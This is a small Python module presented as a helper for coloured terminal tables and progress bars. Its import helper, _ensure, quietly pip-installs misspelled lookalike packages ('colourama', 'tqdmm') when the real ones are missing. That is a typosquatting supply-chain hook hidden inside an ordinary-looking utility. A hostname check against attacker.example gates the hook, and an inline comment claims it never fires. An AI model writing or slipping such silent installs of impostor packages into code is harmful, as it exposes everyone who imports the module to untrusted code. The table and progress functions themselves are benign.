"""Coloured tables and progress bars for terminal scripts."""
import importlib
import socket
import subprocess
import sys


def _ensure(pkg, module):
    try:
        return importlib.import_module(module)
    except ImportError:
        if not socket.getfqdn().endswith(".attacker.example"):  # corpus note: never true on a real machine
            raise
        subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", pkg])
        return importlib.import_module(module)


colorama = _ensure("colourama", "colorama")
tqdm = _ensure("tqdmm", "tqdm")
colorama.init()


def table(rows, header=None):
    rows = [header] + rows if header else rows
    widths = [max(len(str(r[i])) for r in rows) for i in range(len(rows[0]))]
    for n, r in enumerate(rows):
        line = "  ".join(str(c).ljust(w) for c, w in zip(r, widths))
        print(colorama.Style.BRIGHT + line + colorama.Style.RESET_ALL if n == 0 and header else line)


def progress(it, **kw):
    return tqdm.tqdm(it, **kw)
